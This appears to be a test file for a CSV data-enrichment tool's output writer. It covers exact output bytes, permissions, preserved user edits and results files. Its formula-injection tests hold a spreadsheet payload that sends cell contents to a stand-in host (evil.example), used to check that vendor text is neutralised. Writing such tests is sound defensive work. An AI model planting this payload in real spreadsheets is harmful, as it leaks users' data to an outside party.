@@ -1,0 +1,662 @@
+/**
+ * Goal: an output is the input with our columns behind it and nothing else; it is written whole or not at all, twice
+ * the same, and never over what somebody else wrote.
+ * Method: batches are put into a ledger by hand, so that every answer and outcome is known, and written as real files.
+ */
+import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { PassThrough } from 'node:stream';
+import { buffer } from 'node:stream/consumers';
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import { callKeyOf } from '../../../src/core/call-key.ts';
+import { systemClock } from '../../../src/core/clock.ts';
+import type { RunEvent } from '../../../src/core/events.ts';
+import { loadFamily } from '../../../src/core/family.ts';
+import type { ReadOptions } from '../../../src/core/format.ts';
+import { safeCell } from '../../../src/core/formulas.ts';
+import type { Call, Operation } from '../../../src/core/operation.ts';
+import { OUR_COLUMNS, type Outcome } from '../../../src/core/row.ts';
+import { type Input, openInput } from '../../../src/files/input.ts';
+import {
+  type Additions,
+  chooseDestination,
+  filesOf,
+  notesIn,
+  type OutputFiles,
+  writeOutput,
+} from '../../../src/files/output/output.ts';
+import { type Batch, credits, type Ledger, type SettledRow } from '../../../src/ledger/ledger.ts';
+import memory from '../../ledger/stores/memory.ts';
+import { bytesOf, cellText, quoted, written, writtenCsv } from '../formats/csv-arbitrary.ts';
+
+const ANSWERED_MS = Date.UTC(2026, 10, 20, 2, 13);
+const OURS = OUR_COLUMNS.join();
+
+let stores = 0;
+
+/** A list, its batch, and the ledger that holds what became of its rows. */
+class Desk {
+  readonly folder: string;
+  readonly ledger: Ledger;
+  readonly notes: string[] = [];
+
+  constructor(folder: string, ledger: Ledger) {
+    this.folder = folder;
+    this.ledger = ledger;
+  }
+
+  static async open(): Promise<Desk> {
+    const folder = await mkdtemp(join(tmpdir(), 'rowonce-output-'));
+    stores += 1;
+    const options = { clock: systemClock, waitForLockMs: 0, create: true, command: 'test' };
+    const ledger = await memory.open(`memory://output-${stores}`, options);
+    onTestFinished(async () => {
+      await ledger.close();
+      await rm(folder, { recursive: true, force: true });
+    });
+    return new Desk(folder, ledger);
+  }
+
+  path(name: string): string {
+    return join(this.folder, name);
+  }
+
+  read(name: string): string {
+    return readFileSync(this.path(name), 'utf8');
+  }
+
+  table(name: string): readonly Readonly<Record<string, string>>[] {
+    return parse(this.read(name), { columns: true, bom: true });
+  }
+
+  /** Writes the list and begins its batch. */
+  async list(
+    content: string | Buffer,
+    name = 'list.csv',
+    read: ReadOptions = {},
+  ): Promise<{ input: Input; batch: Batch }> {
+    writeFileSync(this.path(name), content);
+    const input = await openInput(this.path(name), read);
+    const { batch } = await this.ledger.beginBatch({
+      key: `${name} ${input.survey.sha256}`,
+      lineage: name,
+      accountIdentity: 'data',
+      accountName: 'data',
+      sandbox: false,
+      vendor: 'provider',
+      operation: 'enrich-company',
+      inputPath: input.path,
+      inputSha256: input.survey.sha256,
+      inputRows: input.survey.rows,
+      settings: {},
+      createdAtMs: ANSWERED_MS,
+    });
+    return { input, batch };
+  }
+
+  /** Buys an answer for a row, for one credit when it was found. @returns its attempt. */
+  async answer(
+    batch: Batch,
+    row: number,
+    body: unknown,
+    parameters: Call['parameters'] = { domain: `${row}` },
+  ) {
+    const call: Call = { operation: 'enrich-company', parameters, ifLost: 'hold' };
+    const admission = await this.ledger.admit({
+      key: callKeyOf('data', call),
+      accountIdentity: 'data',
+      call,
+      batch: batch.id,
+      row,
+      reserve: credits(1),
+      atMs: ANSWERED_MS,
+    });
+    if (admission.kind !== 'admitted') throw new Error('no budget');
+    const reply = {
+      status: 200,
+      headers: {},
+      body: Buffer.isBuffer(body) ? body : Buffer.from(JSON.stringify(body)),
+      receivedAtMs: ANSWERED_MS,
+    };
+    await this.ledger.record(admission.attempt, reply);
+    const closure = { kind: 'settled', answer: 'found', charged: credits(1), why: 'status 200' } as const;
+    await this.ledger.closeAttempt(admission.attempt, closure, ANSWERED_MS);
+    return admission.attempt;
+  }
+
+  settle(batch: Batch, row: number, outcome: Outcome, answers: SettledRow['answers'] = []): Promise<void> {
+    return this.ledger.settleRow({ batch: batch.id, row, outcome, answers });
+  }
+
+  /** The rows of a list from 2 on, each matched by an answer of its own. */
+  async matchAll(batch: Batch, ...bodies: readonly unknown[]): Promise<void> {
+    for (const [at, body] of bodies.entries()) {
+      const attempt = await this.answer(batch, at + 2, body);
+      await this.settle(batch, at + 2, { kind: 'matched', matchedBy: 'domain' }, [attempt]);
+    }
+  }
+
+  async write(
+    list: { input: Input; batch: Batch },
+    output = 'out.csv',
+    job: Partial<Additions> = {},
+  ): Promise<OutputFiles> {
+    const { input, batch } = list;
+    const additions: Additions = { onExisting: 'refuse', ...job };
+    const destination = await chooseDestination(input, additions, {
+      named: this.path(output),
+      sandbox: batch.sandbox,
+    });
+    const emit = (event: RunEvent): void => {
+      if (event.kind === 'note') this.notes.push(event.message);
+    };
+    const order = {
+      ledger: this.ledger,
+      job: additions,
+      answerPlace: {},
+      emit,
+      ...notesIn(this.ledger, batch),
+    };
+    return writeOutput(order, input, batch, destination);
+  }
+}
+
+describe('the output', () => {
+  test('is the input, byte for byte, with our cells behind each row, whatever the input and the reasons hold', async () => {
+    await fc.assert(
+      fc.asyncProperty(writtenCsv, fc.array(cellText, { minLength: 1 }), async (file, reasons) => {
+        const desk = await Desk.open();
+        // Said, and not left to a guess: cells of any text may look more like a table of semicolons.
+        const list = await desk.list(bytesOf(file), 'list.csv', { delimiter: 'comma' });
+        const numbers = new Map(file.pieces.map((piece, at) => [piece, at + 1]));
+        const reasonOf = (row: number): string => reasons[row % reasons.length] ?? '';
+        for (const [piece, row] of numbers) {
+          if (piece.kind === 'row')
+            await desk.settle(list.batch, row, { kind: 'no_match', reason: reasonOf(row) });
+        }
+        await desk.write(list);
+        // Where the header has all its cells in quotes, ours have quotes as well.
+        const header = file.pieces.find(({ kind }) => kind === 'header')?.text;
+        const inStyle = file.header.map(quoted).join() === header ? quoted : written;
+        const expected = bytesOf(file, (piece) => {
+          if (piece.kind === 'blank') return '';
+          if (piece.kind === 'header') return `,${OUR_COLUMNS.map(inStyle).join()}`;
+          const { text } = safeCell(reasonOf(numbers.get(piece) ?? 0));
+          return `,${['no_match', text, '', '0', '', ''].map(inStyle).join()}`;
+        });
+        expect(readFileSync(desk.path('out.csv')).equals(expected)).toBe(true);
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  test('an answer that nobody can look into is a reason in its row, and all others are written', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\nb\nc\n');
+    const deep = Buffer.from(`{"size":${'['.repeat(200_000)}${']'.repeat(200_000)}}`);
+    await desk.matchAll(list.batch, { size: 1 }, deep, { size: 3 });
+    for (const add of [undefined, { Size: 'size', All: 'nothing' }]) {
+      await desk.write(list, 'out.csv', add === undefined ? {} : { add });
+      const rows = desk.table('out.csv');
+      expect(rows.map((row) => row.size ?? row.Size)).toEqual(['1', '', '3']);
+      expect(rows.map(({ _status }) => _status)).toEqual(['matched', 'matched', 'matched']);
+      expect(rows[1]?._reason).toContain('its answer cannot be written: its lists and objects are more than');
+      expect(rows[0]?._reason).toBe('');
+    }
+  });
+
+  test('says for each row how it ended, who paid, where the answer came from and when', async () => {
+    const desk = await Desk.open();
+    const before = await desk.list('Domain\nold\n', 'before.csv');
+    const old = await desk.answer(before.batch, 2, { size: 1 });
+    const list = await desk.list('Domain\na\na\nold\nnew\nbad\n');
+    const bought = await desk.answer(list.batch, 3, { size: 2 }, { domain: 'a' });
+    const matched: Outcome = { kind: 'matched', matchedBy: 'domain' };
+    await desk.settle(list.batch, 3, matched, [bought]);
+    await desk.settle(list.batch, 2, matched, [bought]);
+    await desk.settle(list.batch, 4, matched, [old]);
+    await desk.settle(list.batch, 6, { kind: 'invalid', reason: 'domain: not one' });
+    const { tally } = await desk.write(list);
+    const when = '2026-11-20T02:13:00.000Z';
+    expect(desk.table('out.csv')).toMatchObject([
+      {
+        size: '2',
+        _status: 'matched',
+        _matched_by: 'domain',
+        _credits: '1',
+        _source: 'bought',
+        _as_of: when,
+      },
+      { size: '2', _status: 'matched', _credits: '0', _source: 'row 2' },
+      { size: '1', _status: 'matched', _credits: '0', _source: 'ledger' },
+      { size: '', _status: 'pending', _reason: '', _credits: '0', _source: '', _as_of: '' },
+      { size: '', _status: 'invalid', _reason: 'domain: not one', _credits: '0', _source: '', _as_of: '' },
+    ]);
+    expect(tally.saved).toBe(2);
+  });
+
+  test('is as open as the input, but for what the umask closes, and so are the files beside it', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    chmodSync(list.input.path, 0o666);
+    const mode = 0o666 & ~process.umask();
+    // A umask that closes nothing would show nothing.
+    expect(mode).not.toBe(0o666);
+    await desk.settle(list.batch, 2, { kind: 'invalid', reason: 'no' });
+    await desk.write({ ...list, input: await openInput(list.input.path, {}) });
+    for (const name of ['out.csv', 'out.needs-attention.csv', 'out.report.html']) {
+      expect(statSync(desk.path(name)).mode & 0o777).toBe(mode);
+    }
+  });
+
+  test('is the same to the byte when it is written again, on a disk or into a stream', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\nb\n');
+    await desk.matchAll(list.batch, { size: 1, tags: ['x', 'y'] }, { size: 2, founded: 1999 });
+    await desk.write(list);
+    const once = ['out.csv', 'out.report.html'].map((name) => desk.read(name));
+    await desk.write(list);
+    expect(['out.csv', 'out.report.html'].map((name) => desk.read(name))).toEqual(once);
+    const stream = new PassThrough();
+    const order = {
+      ledger: desk.ledger,
+      job: { onExisting: 'refuse' },
+      answerPlace: {},
+      emit: () => {},
+    } as const;
+    const [streamed] = await Promise.all([
+      buffer(stream),
+      writeOutput(order, list.input, list.batch, { kind: 'stream', stream, isWorkbook: false }).then(() =>
+        stream.end(),
+      ),
+    ]);
+    expect(streamed.toString()).toBe(once[0]);
+    expect(readdirSync(desk.folder).filter((name) => name.includes('tmp'))).toEqual([]);
+  });
+
+  test('is not written with fewer rows than the input has, nor when there is no input any more', async () => {
+    const desk = await Desk.open();
+    const { input, batch } = await desk.list('Domain\na\n');
+    const longer = { ...input, survey: { ...input.survey, rows: 2 } };
+    await expect(desk.write({ input: longer, batch })).rejects.toMatchObject({ code: 'input' });
+    rmSync(input.path);
+    await expect(desk.write({ input, batch })).rejects.toMatchObject({ code: 'input' });
+    expect(readdirSync(desk.folder)).toEqual([]);
+  });
+
+  test('is not written when the input was changed under the hands of the run', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { size: 1 });
+    writeFileSync(list.input.path, 'Domain\nsomebody else\n');
+    await expect(desk.write(list)).rejects.toMatchObject({ code: 'input' });
+    expect(readdirSync(desk.folder)).toEqual(['list.csv']);
+  });
+});
+
+describe('the file of rows that need attention', () => {
+  test('holds those rows as they came, with number and reason, and is an input again', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,Note\r\n"a",1\r\nb,"x, y"\r\n\r\nc,3\r\n');
+    await desk.settle(list.batch, 2, { kind: 'no_match', reason: 'nothing' });
+    await desk.settle(list.batch, 3, { kind: 'refused', reason: 'the vendor said "no", twice' });
+    await desk.settle(list.batch, 5, { kind: 'in_doubt', reason: 'lost' });
+    const { attention } = await desk.write(list);
+    expect(attention).toBe(desk.path('out.needs-attention.csv'));
+    const content =
+      'Domain,Note,_row,_reason\r\nb,"x, y",3,"the vendor said ""no"", twice"\r\n\r\nc,3,5,lost\r\n';
+    expect(desk.read('out.needs-attention.csv')).toBe(content);
+
+    const mended = await desk.list(content, 'mended.csv');
+    await desk.write(mended, 'mended-out.csv');
+    expect(desk.read('mended-out.csv').split('\r\n')[0]).toBe(`Domain,Note,${OURS}`);
+  });
+
+  test('goes when nothing needs attention any more', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.settle(list.batch, 2, { kind: 'in_doubt', reason: 'lost' });
+    await desk.write(list);
+    expect(existsSync(desk.path('out.needs-attention.csv'))).toBe(true);
+    await desk.settle(list.batch, 2, { kind: 'skipped', reason: 'left out' });
+    expect(await desk.write(list)).not.toHaveProperty('attention');
+    expect(existsSync(desk.path('out.needs-attention.csv'))).toBe(false);
+  });
+});
+
+describe('the file of results', () => {
+  const people = { operation: { resultsFile: 'people' } };
+
+  test('has a line for each member of the lists, in order, with its row, under the fields that any of them has', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\nb\nc\n');
+    const [first, second] = [
+      await desk.answer(list.batch, 2, { total: 3, results: [{ name: 'Jo', place: { city: 'Perth' } }] }),
+      await desk.answer(list.batch, 2, { results: [{ name: 'Al, "x"' }, 'odd'] }, { domain: '2', page: 2 }),
+    ];
+    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain' }, [first, second]);
+    await desk.settle(list.batch, 3, { kind: 'no_match', reason: 'nobody' });
+    const third = await desk.answer(list.batch, 4, {
+      results: [{ _row: 'theirs', emails: ['a', 'b'], jobs: [{ title: 'CEO' }], none: null }],
+    });
+    await desk.settle(list.batch, 4, { kind: 'matched', matchedBy: 'domain' }, [third]);
+    const { results, tally } = await desk.write(list, 'out.csv', people);
+    expect(results).toBe(desk.path('out.people.csv'));
+    expect(desk.read('out.people.csv').split('\n')).toEqual([
+      '_row,name,place.city,value,found__row,emails,jobs.0.title,none,Domain',
+      '2,Jo,Perth,,,,,,a',
+      '2,"Al, ""x""",,,,,,,a',
+      '2,,,odd,,,,,a',
+      '4,,,,theirs,a; b,CEO,,c',
+      '',
+    ]);
+    expect(tally.results).toEqual({ file: 'out.people.csv', count: 4 });
+    expect(desk.read('out.report.html')).toContain('<td class="file">out.people.csv<td class="n">4');
+  });
+
+  test('carries the columns of the row that found it, under other names than those of what was found', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Name,Domain,input_name,Note\n"Jo, x",a,1,=1+1\n,b,2,\nAl,c,3,z\n');
+    for (const row of [2, 4]) {
+      const found = await desk.answer(
+        list.batch,
+        row,
+        { results: [{ name: `n${row}` }] },
+        { domain: `${row}` },
+      );
+      await desk.settle(list.batch, row, { kind: 'matched', matchedBy: 'domain' }, [found]);
+    }
+    await desk.write(list, 'out.csv', people);
+    expect(desk.read('out.people.csv').split('\n')).toEqual([
+      '_row,name,input_Name,Domain,input_input_name,Note',
+      '2,n2,"Jo, x",a,1,=1+1',
+      '4,n4,Al,c,3,z',
+      '',
+    ]);
+    await desk.write(list, 'out.csv', { ...people, withInput: false });
+    expect(desk.read('out.people.csv')).toBe('_row,name\n2,n2\n4,n4\n');
+  });
+
+  test('does not repeat what an earlier output added to its input', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list(`Domain,${OURS}\na,matched,,,1,bought,\n`, 'earlier.csv');
+    const found = await desk.answer(list.batch, 2, { results: [{ name: 'Jo' }] });
+    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain' }, [found]);
+    await desk.write(list, 'out.csv', people);
+    expect(desk.read('out.people.csv')).toBe('_row,name,Domain\n2,Jo,a\n');
+  });
+
+  test('shows what was found and paid for also while the rest of a row is in doubt', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    const found = await desk.answer(list.batch, 2, { results: [{ name: 'Jo' }] });
+    await desk.settle(list.batch, 2, { kind: 'in_doubt', reason: 'page 2 was lost' }, [found]);
+    await desk.write(list, 'out.csv', people);
+    expect(desk.table('out.people.csv')).toEqual([{ _row: '2', name: 'Jo', Domain: 'a' }]);
+    const plain = desk.read('out.people.csv');
+    // Excel would take it for another encoding than UTF-8.
+    await desk.write(list, 'out.xlsx', people);
+    expect(desk.read('out.people.csv')).toBe(`\uFEFF${plain}`);
+  });
+
+  test('is whole when it holds more than is read of the ledger at a time, and the same to the byte again', async () => {
+    const desk = await Desk.open();
+    const rows = Array.from({ length: 61 }, (_, at) => ({
+      results: [{ name: `p${at}` }, { name: `q${at}` }],
+    }));
+    const list = await desk.list(`\uFEFFDomain\n${rows.map((_, at) => `d${at}\n`).join('')}`);
+    await desk.matchAll(list.batch, ...rows);
+    const limits = new Set<number>();
+    const { rows: ask } = desk.ledger;
+    desk.ledger.rows = (batch, from, limit) => {
+      limits.add(limit);
+      return ask.call(desk.ledger, batch, from, limit);
+    };
+    await desk.write(list, 'out.csv', people);
+    // Answers with lists are large: a thousand of them would not fit into memory.
+    expect([...limits]).toEqual([20]);
+    const once = readFileSync(desk.path('out.people.csv'));
+    // It will be opened by the program that the input was made for.
+    expect(once.subarray(0, 3)).toEqual(Buffer.from('\uFEFF'));
+    expect(desk.table('out.people.csv')).toHaveLength(122);
+    expect(desk.table('out.people.csv').at(-1)).toEqual({ _row: '62', name: 'q60', Domain: 'd60' });
+    await desk.write(list, 'out.csv', people);
+    expect(readFileSync(desk.path('out.people.csv'))).toEqual(once);
+  });
+
+  test('goes when nothing was found, and is never touched by an operation that has none', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.settle(list.batch, 2, { kind: 'no_match', reason: 'nobody' });
+    const before = await desk.list('Domain\nb\n', 'before.csv');
+    await desk.matchAll(before.batch, { results: [{ name: 'Jo' }] });
+    await desk.write(before, 'out.csv', people);
+    expect(await desk.write(list)).not.toHaveProperty('results');
+    expect(desk.table('out.people.csv')).toEqual([{ _row: '2', name: 'Jo', Domain: 'b' }]);
+    expect(await desk.write(list, 'out.csv', people)).not.toHaveProperty('results');
+    expect(existsSync(desk.path('out.people.csv'))).toBe(false);
+  });
+
+  test('is never the input itself, which is known before anything is paid for', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n', 'out.people.csv');
+    await expect(desk.write(list, 'out.csv', people)).rejects.toMatchObject({ code: 'output' });
+    expect(await desk.write(list)).toMatchObject({ output: desk.path('out.csv') });
+  });
+
+  test('is known by its name for each operation that has one', async () => {
+    const operations = await loadFamily<Operation>(new URL('../../../src/operations/', import.meta.url));
+    const names = [...operations.values()].flatMap(({ resultsFile = [] }) => resultsFile);
+    expect(filesOf('/x/out.csv')).toEqual(expect.arrayContaining(names.map((name) => `/x/out.${name}.csv`)));
+    expect(names).toContain('people');
+  });
+});
+
+describe('without a job’s columns', () => {
+  test('answers are written whole, identifiers under a name that is never taken for one, and lists of results once', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Company\na\nb\n');
+    const place = { city: 'Perth' };
+    await desk.matchAll(
+      list.batch,
+      { abn: '05', 'Company domain': 'a.example', phones: ['+61 2 5550 0001', '+61 2 5550 0002'] },
+      { location: place, results: [{ name: 'Jo' }] },
+    );
+    await desk.write(list);
+    const whole = 'Company,found_abn,found_Company domain,phones,location.city,results.0.name';
+    expect(desk.read('out.csv').split('\n')[0]).toBe(`${whole},${OURS}`);
+    expect(desk.read('out.csv')).toContain('\na,05,a.example,+61 2 5550 0001; +61 2 5550 0002,,,matched');
+    await desk.write(list, 'apart.csv', { operation: { resultsFile: 'people' } });
+    expect(desk.read('apart.csv').split('\n')[0]).not.toContain('results.0');
+    expect(desk.read('apart.people.csv')).toContain('Jo');
+  });
+
+  test('a path of `add` that no answer has is said aloud, once', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Company\na\nb\n');
+    await desk.matchAll(list.batch, { legalName: 'A' }, { legalName: 'B' });
+    await desk.write(list, 'out.csv', { add: { name: 'legalName', other: 'legalNam' } });
+    expect(desk.notes).toEqual(['`legalNam` is in none of 2 answers; did you mean `legalName`?']);
+  });
+});
+
+describe('a file that stands where the output goes', () => {
+  test('is replaced when it is as we wrote it, whichever batch wrote it', async () => {
+    const desk = await Desk.open();
+    await desk.write(await desk.list('Domain\na\n', 'first.csv'));
+    await desk.write(await desk.list('Domain\nb\n', 'second.csv'));
+    expect(desk.read('out.csv')).toContain('\nb,pending');
+    expect(desk.notes).toEqual([]);
+  });
+
+  test('is kept when somebody changed it: ours goes to OUT (2), said aloud, with its files beside it', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.settle(list.batch, 2, { kind: 'invalid', reason: 'no' });
+    await desk.write(list);
+    writeFileSync(desk.path('out.csv'), 'my notes');
+    const files = await desk.write(list);
+    expect(files).toMatchObject({
+      output: desk.path('out (2).csv'),
+      attention: desk.path('out (2).needs-attention.csv'),
+      report: desk.path('out (2).report.html'),
+    });
+    expect(desk.notes).toEqual([`${desk.path('out.csv')} is not as we wrote it, so it is kept.`]);
+    expect(desk.read('out.csv')).toBe('my notes');
+
+    await desk.write(list);
+    expect(readdirSync(desk.folder).filter((name) => /^out.*\d\)\.csv$/.test(name))).toEqual(['out (2).csv']);
+    writeFileSync(desk.path('out (2).csv'), 'more notes');
+    expect((await desk.write(list)).output).toBe(desk.path('out (3).csv'));
+  });
+
+  test('and was never ours is kept as well', async () => {
+    const desk = await Desk.open();
+    writeFileSync(desk.path('out.csv'), 'from somewhere else');
+    expect((await desk.write(await desk.list('Domain\na\n'))).output).toBe(desk.path('out (2).csv'));
+    expect(desk.read('out.csv')).toBe('from somewhere else');
+  });
+});
+
+describe('a file beside the output', () => {
+  const people = { operation: { resultsFile: 'people' } };
+  const besides = ['out.needs-attention.csv', 'out.people.csv', 'out.report.html'];
+
+  /** Somebody needs attention, and somebody was found. */
+  async function deskWithAll() {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\nb\n');
+    await desk.matchAll(list.batch, { results: [{ name: 'Jo' }] });
+    await desk.settle(list.batch, 3, { kind: 'in_doubt', reason: 'lost' });
+    return { desk, list };
+  }
+
+  test.for(besides)('that somebody changed, or put there, is kept: %s', async (name) => {
+    const { desk, list } = await deskWithAll();
+    if (name !== 'out.report.html') await desk.write(list, 'out.csv', people);
+    writeFileSync(desk.path(name), 'mended by hand');
+    const ours = name.replace(/(\.\w+)$/, ' (2)$1');
+    const first = await desk.write(list, 'out.csv', people);
+    expect(Object.values(first)).toContain(desk.path(ours));
+    expect(desk.notes).toEqual([`${desk.path(name)} is not as we wrote it, so it is kept.`]);
+    const content = desk.read(ours);
+    const names = readdirSync(desk.folder);
+    await desk.write(list, 'out.csv', people);
+    expect(desk.read(ours)).toBe(content);
+    expect(readdirSync(desk.folder)).toEqual(names);
+
+    await desk.settle(list.batch, 3, { kind: 'skipped', reason: 'left out' });
+    await desk.write(list, 'out.csv', people);
+    expect(desk.read(name)).toBe('mended by hand');
+    // What is stale of ours goes all the same.
+    expect(existsSync(desk.path(ours))).toBe(name !== 'out.needs-attention.csv');
+  });
+
+  test('is replaced when it is as we wrote it, also where outputs of other formats were written in turn', async () => {
+    const { desk, list } = await deskWithAll();
+    for (const name of ['out.csv', 'out.xlsx', 'out.csv', 'other.csv', 'out.xlsx'])
+      await desk.write(list, name, people);
+    expect(desk.notes).toEqual([]);
+    expect(readdirSync(desk.folder).filter((name) => name.includes('('))).toEqual([]);
+  });
+});
+
+describe('an earlier output as an input', () => {
+  test('gets our columns and what we added replaced, not doubled', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,size\na,own\n');
+    await desk.matchAll(list.batch, { size: 5, city: 'Perth' });
+    await desk.write(list);
+    expect(desk.read('out.csv').split('\n')[0]).toBe(`Domain,size,found_size,city,${OURS}`);
+
+    const again = await desk.list(desk.read('out.csv'), 'again.csv');
+    const attempt = await desk.answer(again.batch, 2, { size: 6, city: 'Hobart' }, { domain: 'other' });
+    await desk.settle(again.batch, 2, { kind: 'matched', matchedBy: 'domain' }, [attempt]);
+    await desk.write(again, 'again-out.csv');
+    expect(desk.read('again-out.csv').split('\n')[0]).toBe(`Domain,size,found_size,city,${OURS}`);
+    expect(desk.table('again-out.csv')[0]).toMatchObject({ size: 'own', found_size: '6', city: 'Hobart' });
+  });
+
+  test('the same with the columns of a job', async () => {
+    const desk = await Desk.open();
+    const job = { add: { employees: 'size' } };
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { size: 5 });
+    await desk.write(list, 'out.csv', job);
+    const again = await desk.list(desk.read('out.csv'), 'again.csv');
+    await desk.write(again, 'again-out.csv', job);
+    expect(desk.read('again-out.csv')).toBe(`Domain,employees,${OURS}\na,,pending,,,0,,\n`);
+  });
+});
+
+describe('what a vendor says never becomes a formula', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example?"&A2)';
+  const QUOTED = '"\'=HYPERLINK(""http://evil.example?""&A2)"';
+
+  test('in the added columns, their names, the reasons and the file of those that need attention', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,Sum\na,=1+1\nb,+2\n');
+    const body = { name: FORMULA, phone: '+61 2 9999 0000', change: -5.5, '=field': ' ＝1+1' };
+    const attempt = await desk.answer(list.batch, 2, body);
+    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain' }, [attempt]);
+    await desk.settle(list.batch, 3, { kind: 'refused', reason: '@SUM(1)' });
+    const { tally } = await desk.write(list);
+    expect(desk.read('out.csv').split('\n')).toEqual([
+      `Domain,Sum,name,phone,change,'=field,${OURS}`,
+      `a,=1+1,${QUOTED},+61 2 9999 0000,-5.5,' ＝1+1,matched,,domain,1,bought,2026-11-20T02:13:00.000Z`,
+      "b,+2,,,,,refused,'@SUM(1),,0,,",
+      '',
+    ]);
+    expect(desk.read('out.needs-attention.csv')).toBe("Domain,Sum,_row,_reason\nb,+2,3,'@SUM(1)\n");
+    // The name of a column, two cells and a reason, which stands in two files.
+    expect(tally.formulas).toBe(4);
+    expect(desk.read('out.report.html')).toContain('4 cells that would have begun a formula');
+  });
+
+  test('in the file of results', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { results: [{ '@name': '-1+1', email: 'jo@acme.example' }] });
+    const { tally } = await desk.write(list, 'out.csv', { add: {}, operation: { resultsFile: 'people' } });
+    expect(desk.read('out.people.csv')).toBe("_row,'@name,email,Domain\n2,'-1+1,jo@acme.example,a\n");
+    expect(tally.formulas).toBe(2);
+  });
+
+  test('raw: all is as the vendor said it, and the report says nothing', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { '=name': '=1+1' });
+    const { tally } = await desk.write(list, 'out.csv', { formulas: 'raw' });
+    expect(desk.read('out.csv')).toContain('Domain,=name,_status');
+    expect(desk.read('out.csv')).toContain('\na,=1+1,matched');
+    expect(tally.formulas).toBe(0);
+    expect(desk.read('out.report.html')).not.toContain('formula');
+  });
+
+  test('and an output that is an input again gets one apostrophe, not two, however it was written', async () => {
+    for (const formulas of ['safe', 'raw'] as const) {
+      const desk = await Desk.open();
+      const list = await desk.list('Domain\na\n');
+      await desk.matchAll(list.batch, { '=name': '=1+1' });
+      await desk.write(list, 'out.csv', { formulas });
+      const again = await desk.list(desk.read('out.csv'), 'again.csv');
+      const [answer] = (await desk.ledger.rows(list.batch.id, 2, 1)).flatMap(({ answers }) => answers);
+      const matched: Outcome = { kind: 'matched', matchedBy: 'domain' };
+      await desk.settle(again.batch, 2, matched, answer === undefined ? [] : [answer.attempt]);
+      await desk.write(again, 'out-again.csv');
+      expect(desk.read('out-again.csv')).toMatch(/^Domain,'=name,_status,.*\na,'=1\+1,matched,/);
+    }
+  });
+
+  test('while a cell of the user’s own that is kept, in a column that is filled, stays as it is', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,size\na,=1+1\nb,\n');
+    await desk.matchAll(list.batch, { size: 5 }, { size: '=2+2' });
+    await desk.write(list, 'out.csv', { add: { size: 'size' }, onExisting: 'fill' });
+    expect(desk.table('out.csv')).toMatchObject([{ size: '=1+1' }, { size: "'=2+2" }]);
+  });
+});
